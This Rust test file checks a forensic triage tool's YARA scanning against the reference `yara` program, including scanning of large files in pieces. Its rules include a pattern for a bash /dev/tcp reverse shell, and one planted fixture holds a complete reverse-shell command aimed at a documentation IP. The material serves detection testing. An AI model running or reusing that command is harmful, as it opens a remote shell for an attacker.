//! YARA rules over an examined root.
//!
//! Vouched for by the `yara` program: the same rules over the same files give the same rules, files and offsets.

#[expect(dead_code, reason = "other tests use more of it")]
mod support;

use std::collections::BTreeSet;
use std::process::Command;

use support::clean_root;
use triage::{Options, Report, Severity, YaraRules};

const RULES: &str = r#"
import "elf"
import "hash"
import "math"

rule words { meta: description = "two words" severity = "critical"
  strings: $one = "backdoor" nocase wide ascii $two = { 7f 45 ?? 46 [2-4] 01 }
  condition: any of them }

rule program { condition: elf.type == elf.ET_DYN or elf.type == elf.ET_EXEC }

rule pattern : tag { strings: $x = /sh -i >& \/dev\/tcp\/[0-9.]+\/[0-9]{1,5}/ $y = "xorme" xor(1-255) $z = "b64me" base64
  condition: any of them }

rule noise { condition: filesize > 4000 and math.entropy(0, filesize) > 7.5 }

rule known { condition: hash.sha256(0, filesize) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad" }

private rule unseen { condition: true }
"#;

/// Files with what the rules look for, and without.
fn planted() -> Vec<(&'static str, Vec<u8>)> {
    let mut elf = std::fs::read("/proc/self/exe").unwrap();
    elf.truncate(1 << 20);
    let mut state = 1_u32;
    let noise = (0..8192).map(|_| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    });
    let xored: Vec<u8> = b"..xorme..".iter().map(|byte| byte ^ 0x21).collect();
    vec![
        ("/opt/a", b"nothing here".to_vec()),
        ("/opt/b", b"a BackDoor, and b\0a\0c\0k\0d\0o\0o\0r\0".to_vec()),
        ("/opt/c", b"bash -c 'sh -i >& /dev/tcp/192.0.2.7/4444 0>&1'".to_vec()),
        ("/opt/d", xored),
        ("/opt/e", b"xx YjY0bWU= yy".to_vec()),
        ("/opt/f", b"abc".to_vec()),
        ("/opt/g", noise.collect()),
        ("/usr/bin/tool", elf),
    ]
}

fn examined(largest_scanned_bytes: u64) -> Report {
    let mut fs = clean_root();
    for (path, content) in planted() {
        fs.put(path, evidence::fs::FileKind::File, 0o644, &content);
    }
    let yara = YaraRules::compile([("mine.yar", RULES)]).unwrap();
    triage::run(&fs, &Options { yara: Some(yara), largest_scanned_bytes, ..Options::default() })
}

#[test]
fn the_yara_program_agrees() {
    if Command::new("yara").arg("--version").output().is_err() {
        eprintln!("skipped: no yara");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("mine.yar"), RULES).unwrap();
    let mut theirs = BTreeSet::new();
    for (path, content) in planted() {
        let file = folder.path().join("file");
        std::fs::write(&file, content).unwrap();
        let out =
            Command::new("yara").arg(folder.path().join("mine.yar")).arg(&file).output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        for line in String::from_utf8(out.stdout).unwrap().lines() {
            theirs.insert((path.to_owned(), line.split(' ').next().unwrap().to_owned()));
        }
    }
    let report = examined(64 << 20);
    let ours: BTreeSet<(String, String)> = report
        .findings
        .iter()
        .filter(|one| one.rule == "GBX-1501")
        .map(|one| {
            let rule = one.detail.strip_prefix("mine.yar:").unwrap().split(':').next().unwrap();
            (one.path.to_string(), rule.to_owned())
        })
        .collect();
    assert_eq!(ours, theirs);
    let rules: BTreeSet<&str> = ours.iter().map(|(_, rule)| rule.as_str()).collect();
    assert_eq!(rules, BTreeSet::from(["known", "noise", "pattern", "program", "words"]));
    let ids: BTreeSet<&str> = report.findings.iter().map(|one| one.finding_id.as_str()).collect();
    assert_eq!(ids.len(), report.findings.len(), "every finding has an id of its own");
}

#[test]
fn a_match_tells_where_and_how_bad() {
    let report = examined(64 << 20);
    let found = report
        .findings
        .iter()
        .find(|one| one.path.to_string() == "/opt/b" && one.rule == "GBX-1501")
        .unwrap();
    assert_eq!((found.severity, found.offset_bytes), (Severity::Critical, Some(2)));
    assert_eq!(found.excerpt, "BackDoor");
    assert!(found.detail.contains("two words; $one at 0x2, 2 times"), "{}", found.detail);
    assert_eq!(report.coverage.yara_rules, 5);
    assert!(report.coverage.yara_files >= 8);
}

#[test]
fn files_too_large_to_be_held_are_scanned_in_pieces() {
    let report = examined(64);
    let told: Vec<String> = report.problems.iter().map(ToString::to_string).collect();
    let names = |text: &String| text.contains("/opt/g") && text.contains("filesize");
    assert!(told.iter().any(names), "{told:?}");
    let found = |path: &str, rule: &str| {
        let mut all = report.findings.iter().filter(|one| one.rule == "GBX-1501");
        all.any(|one| one.path.to_string() == path && one.detail.contains(rule))
    };
    // The program is larger, and what its rule asks is known from its beginning.
    assert!(found("/usr/bin/tool", ":program"), "{told:?}");
    // This one asks for the size of the file.
    assert!(!found("/opt/g", ":noise"));
    assert!(report.coverage.yara_in_pieces >= 2, "{:?}", report.coverage);
}

#[test]
fn in_pieces_the_same_is_found_at_the_same_places() {
    let rules = r#"rule far { strings: $a = "needle in the stack" $b = /zx{3,9}y/ condition: $a and $b }
        rule first { condition: uint32be(0) == 0x41424344 }
        rule last { condition: uint16be(0x5000000) == 0x5a5a }"#;
    let yara = YaraRules::compile([("mine.yar", rules)]).unwrap();
    // 80 MiB and a little; one string across the first border of the pieces, one in the last piece.
    let mut content = vec![b'.'; (80 << 20) + 100];
    content[..4].copy_from_slice(b"ABCD");
    let border = 32 << 20;
    content[border - 7..border + 12].copy_from_slice(b"needle in the stack");
    content[70 << 20..(70 << 20) + 5].copy_from_slice(b"zxxxy");
    content[0x500_0000..0x500_0002].copy_from_slice(b"ZZ");
    let (whole, cut) = yara.matches(&content);
    assert_eq!((whole.len(), cut), (3, None));
    let (parts, cut) = yara.matches_in_pieces(content.len() as u64, &|at, buf| {
        let rest = &content[at as usize..];
        let count = rest.len().min(buf.len()).min(1 << 20);
        buf[..count].copy_from_slice(&rest[..count]);
        count
    });
    assert_eq!((parts, cut), (whole, None));
}
